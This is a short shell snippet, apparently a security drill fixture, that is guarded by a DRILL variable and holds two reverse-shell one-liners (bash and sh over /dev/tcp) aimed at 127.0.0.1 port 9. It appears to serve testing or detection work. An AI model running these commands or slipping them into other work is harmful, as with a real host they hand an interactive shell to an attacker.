cd "${DRILL:?this is for a drill alone}" || exit
bash -c 'exec 2>/dev/null; bash -i >& /dev/tcp/127.0.0.1/9 0>&1'
sh -c 'exec 2>/dev/null; : 0<&196;exec 196<>/dev/tcp/127.0.0.1/9; sh <&196 >&196 2>&196'
